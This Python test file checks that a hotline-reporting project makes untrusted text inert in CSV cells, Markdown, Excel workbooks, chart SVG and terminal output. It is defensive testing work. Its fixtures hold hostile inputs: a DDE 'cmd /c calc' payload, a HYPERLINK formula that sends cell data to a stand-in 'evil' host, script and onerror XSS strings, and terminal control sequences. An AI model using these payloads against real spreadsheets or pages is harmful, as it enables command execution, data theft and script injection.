"""Text from the data made inert: CSV cells never formulas, Markdown never links, images or HTML.

Table-driven cases of the OWASP rule and of Markdown escaping, invariants with hypothesis (the
pandas and Arrow paths agree with the cell rule; escaped Markdown parses to text only and shows
the value as it was), and the writers that use them: workbook cells, chart SVG, claims text,
report Markdown, rejects.csv.
"""

from __future__ import annotations

import math
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import matplotlib
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hostile.injection_cases import (
    HOSTILE,
    MARKDOWN,
    _tokens,
    assert_inert_csv,
    assert_inert_markdown,
    assert_table_shape,
    ingest_hostile,
    visible_text,
)
from hotline.safe_text import (
    csv_cell,
    csv_safe_frame,
    csv_safe_table,
    is_formula_like,
    md_text,
    terminal_text,
)

matplotlib.use("Agg")

# --- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "quoted"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"点击")', True),
        ("+cmd|' /c calc'!A1", True),
        ("-2+3", True),
        ("@SUM(1)", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        (" =1+1", True),  # after blanks
        ("\u3000=1+1", True),  # after a full-width space
        ("＝1+1", True),  # full-width forms
        ("＋1", True),
        ("－1", True),
        ("＠SUM(1)", True),
        ("- 1", True),
        ("-12", False),  # plain numbers are read as numbers, not formulas
        ("+3.5", False),
        ("-1e5", False),
        ("县教育局", False),
        ("1号楼", False),
        ("a=1", False),
        ("'=1+1", False),  # already text to a spreadsheet
        ("", False),
    ],
)
def test_csv_cell(value: str, quoted: bool) -> None:
    assert csv_cell(value) == ("'" + value if quoted else value)


@pytest.mark.parametrize("value", [-3, -0.5, 0, None, math.nan, True, pd.Timestamp("2021-03-01")])
def test_csv_cell_leaves_non_text_alone(value: object) -> None:
    assert csv_cell(value) is value


_RISKY = st.text(
    alphabet=st.sampled_from(list("=+-@\t\r ＝＋－＠\u3000.0123456789eE县局a'\"|,")), max_size=12
)


@given(_RISKY)
def test_a_neutralised_cell_is_never_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert cell in (value, "'" + value)  # nothing else changes
    if is_formula_like(cell):  # only a plain number may still start like a formula
        float(cell)
    if not is_formula_like(value):
        assert cell == value


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(_RISKY, st.none()), min_size=1, max_size=20))
def test_pandas_and_arrow_paths_apply_the_cell_rule(values: list[str | None]) -> None:
    expected = [csv_cell(v) for v in values]
    for dtype in ("str", object):
        got = csv_safe_frame(pd.DataFrame({"name": pd.Series(values, dtype=dtype)}))["name"]
        assert [None if pd.isna(v) else v for v in got] == expected, dtype
    table = csv_safe_table(pa.table({"name": pa.array(values, pa.string())}))
    assert table.column("name").to_pylist() == expected  # RE2 reads the pattern as re does
    large = csv_safe_table(pa.table({"name": pa.array(values, pa.large_string())}))
    assert large.column("name").to_pylist() == expected
    coded = csv_safe_table(pa.table({"name": pa.array(values).dictionary_encode()}))
    assert coded.column("name").to_pylist() == expected


def test_number_columns_keep_their_values_and_types() -> None:
    frame = pd.DataFrame(
        {
            "department": pd.Series(["=1+1", "县教育局", "-2+3"], dtype="str"),
            "change": [-0.5, 0.25, -1.0],
            "rank": pd.array([-1, None, 3], dtype="Int64"),
            "when": pd.to_datetime(["2021-03-01"] * 3),
            "unit": pd.Categorical(["@SUM(1)", "县民政局", "@SUM(1)"]),
            "mixed": pd.Series(["+1+1", -2, None], dtype=object),
        }
    )
    safe = csv_safe_frame(frame)
    assert [type(d) for d in safe.dtypes] == [type(d) for d in frame.dtypes]
    pd.testing.assert_frame_equal(
        safe[["change", "rank", "when"]], frame[["change", "rank", "when"]]
    )
    assert list(safe["department"]) == ["'=1+1", "县教育局", "'-2+3"]
    assert list(safe["unit"]) == ["'@SUM(1)", "县民政局", "'@SUM(1)"]
    assert list(safe["mixed"])[:2] == ["'+1+1", -2]
    assert list(frame["department"]) == ["=1+1", "县教育局", "-2+3"]  # the input is not changed
    assert_inert_csv(safe.to_csv(index=False))


def test_categories_that_would_collide_fall_back_to_text() -> None:
    frame = pd.DataFrame({"unit": pd.Categorical(["=1", "'=1"])})
    assert list(csv_safe_frame(frame)["unit"]) == ["'=1", "'=1"]


def test_column_names_are_neutralised() -> None:
    frame = pd.DataFrame({"=1+1": ["a"]})
    assert list(csv_safe_frame(frame).columns) == ["'=1+1"]
    assert csv_safe_table(pa.table({"@x": [1]})).column_names == ["'@x"]


def test_arrow_tables_keep_number_columns() -> None:
    table = pa.table({"source_file": ["=1+1.csv", "a.csv"], "source_row": pa.array([-1, 2])})
    safe = csv_safe_table(table)
    assert safe.schema == table.schema
    assert safe.column("source_row").equals(table.column("source_row"))


# --- Markdown ----------------------------------------------------------------------------------

MARKDOWN_CASES = [
    *HOSTILE,
    "<a href='http://evil'>x</a>",
    "&lt;script&gt;",  # entities stay as typed, not decoded into tags
    "&#106;avascript:alert(1)",
    "<http://evil.example>",
    "http://evil.example/x",
    "www.evil.example",
    "a@evil.example",
    "[x]: http://evil.example",
    "[^1]",
    "`code`",
    "~~删除~~",
    "> 引用",
    "- 列表",
    "+ 列表",
    "* 列表",
    "1) 列表",
    "===",
    "---",
    "    缩进代码",
    "```",
    "反斜杠\\[x](y)",
    "第一行\n# 第二行",
    "第一行\r\n<script>",
    "a\u2028b",
    "县教育局\x1b[31m红色",
    "\u202e局育教县",
    "98.77%",
    "县（区）教育局(1)",
]


def _expected(value: str) -> str:
    return terminal_text(value).strip(" ")


@pytest.mark.parametrize("value", MARKDOWN_CASES)
def test_escaped_value_is_text_in_a_paragraph_a_line_start_and_a_table_cell(value: str) -> None:
    escaped = md_text(value)
    for document, shown in [
        (f"前{escaped}后", f"前{_expected(value)}后"),
        (escaped, _expected(value)),  # at the start of a line: no heading, list, quote or code
        (f"| 名称 | 数 |\n|---|---:|\n| {escaped} | 1 |", f"名称数{_expected(value)}1"),
    ]:
        assert_inert_markdown(document)
        assert_table_shape(document)
        kinds = {t.type for t in _tokens(MARKDOWN.parse(document))}
        assert kinds <= _TEXT_ONLY, (document, kinds - _TEXT_ONLY)
        assert visible_text(document) == shown, document


_TEXT_ONLY = {
    "paragraph_open",
    "paragraph_close",
    "inline",
    "text",
    "text_special",
    *(
        f"{part}_{side}"
        for part in ("table", "thead", "tbody", "tr", "th", "td")
        for side in ("open", "close")
    ),
}

_MARKDOWNISH = st.text(
    alphabet=st.sampled_from(
        list("\\`*_{}[]()#+-.!|<>&:;/@~$^=\"' \t\n\r") + list("县教育局12345aZwh")
    ),
    max_size=30,
)


@settings(max_examples=300, deadline=None)
@given(_MARKDOWNISH)
def test_any_escaped_value_renders_as_exactly_its_text(value: str) -> None:
    escaped = md_text(value)
    assert "\n" not in escaped and "\r" not in escaped
    for document, shown in [
        (f"前{escaped}后", f"前{_expected(value)}后"),
        (f"| 名称 |\n|---|\n| {escaped} |", f"名称{_expected(value)}"),
    ]:
        kinds = {t.type for t in _tokens(MARKDOWN.parse(document))}
        assert kinds <= _TEXT_ONLY, (value, document, kinds - _TEXT_ONLY)
        assert_table_shape(document)
        assert visible_text(document) == shown.strip(), document


@pytest.mark.parametrize(
    "value", ["县教育局", "城关街道办事处", "2021年", "98.77%", "工单(1).xlsx"]
)
def test_plain_names_and_figures_are_left_readable(value: str) -> None:
    assert md_text(value) == value


def test_terminal_text_drops_controls_and_breaks() -> None:
    assert terminal_text("a\x1b[2Jb\nc\u202ed\x00") == "a[2Jb cd"


# --- the writers -------------------------------------------------------------------------------


def _hostile_orders() -> pd.DataFrame:
    n = 2 * len(HOSTILE)
    return pd.DataFrame(
        {
            "order_id": [str(i) for i in range(n)],
            "source_kind": ["hotline"] * n,
            "received_at": pd.to_datetime(["2021-03-01", "2021-04-02"] * len(HOSTILE)),
            "status": ["closed"] * n,
            "department": [h for h in HOSTILE for _ in range(2)],
            "town": [h for h in HOSTILE for _ in range(2)],
            "topic": [h for h in HOSTILE for _ in range(2)],
        }
    )


def test_report_and_bulletin_markdown_show_names_as_text() -> None:
    from hotline.report.annual import annual_facts
    from hotline.report.bulletin import bulletin_facts, render_bulletin
    from hotline.report.narrative import render_annual

    orders = _hostile_orders()
    report = render_annual(annual_facts(orders, 2021), 2021)
    assert_inert_markdown(report)
    bulletin = render_bulletin(bulletin_facts(orders, "2021-03"), "2021-03")
    assert_inert_markdown(bulletin)
    assert_table_shape(bulletin)
    seen = visible_text(bulletin)
    for name in HOSTILE:
        assert name.strip() in seen, name  # every unit is a row of the ranking


FORMULA_NAMES = (" =1+1", "＝1+1", "\u3000@SUM(1)", '=HYPERLINK("x")', "-2+3")


def test_workbook_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    from hotline.report.annual import annual_facts
    from hotline.report.tables import annual_tables, write_workbook

    names = [name for name in FORMULA_NAMES for _ in range(2)]
    orders = _hostile_orders().head(len(names)).assign(department=names)
    path = write_workbook(tmp_path / "t.xlsx", annual_tables(annual_facts(orders, 2021), 2021))
    cells = {c.value: c for c in next(openpyxl.load_workbook(path)["按承办单位"].iter_cols())}
    for name in FORMULA_NAMES:
        assert (cells[name].data_type, cells[name].quotePrefix) == ("s", True), name


@pytest.mark.parametrize("fonttype", ["path", "none"])
def test_chart_svg_escapes_labels(fonttype: str, tmp_path: Path) -> None:
    from hotline.plotting.charts.ranking import ranking_chart

    label = "--><script>alert(1)</script><!-- <img src=x onerror=alert(1)>"
    ranking = pd.DataFrame(
        {
            "town": [label, "城关街道"],
            "score": [96.0, 88.5],
            "rank": pd.array([1, 2], dtype="Int64"),
            "band": ["优秀", "一般"],
        }
    )
    figure = ranking_chart(ranking, top=1, lang="zh")
    path = tmp_path / "chart.svg"
    with matplotlib.rc_context({"svg.fonttype": fonttype}):
        figure.savefig(path, format="svg")
    svg = path.read_text(encoding="utf-8")
    root = ET.fromstring(svg)  # well-formed: the label did not close a comment or a tag
    assert "<script" not in svg and "<img" not in svg
    assert not [e for e in root.iter() if e.tag.rsplit("}", 1)[-1] in ("script", "img", "a")]
    if fonttype == "none":
        assert any("<script>alert(1)</script>" in (e.text or "") for e in root.iter())


def test_claims_text_carries_no_terminal_controls() -> None:
    from hotline.claims.check import check_claims
    from hotline.claims.render import render_text

    orders = _hostile_orders()
    output = render_text(check_claims("全县有\x1b]0;标题\x073个驿站\u202e。", orders))
    assert "3个驿站" in output
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", output), repr(output)


def test_rejects_csv_names_no_live_formula(tmp_path: Path) -> None:
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "project" / "data" / "raw").mkdir(parents=True, exist_ok=True)
    out = ingest_hostile(work)
    text = (work / out / "rejects.csv").read_text(encoding="utf-8")
    rows = assert_inert_csv(text)
    assert rows[1][0].startswith("'=1+1"), rows  # the file name, behind its apostrophe
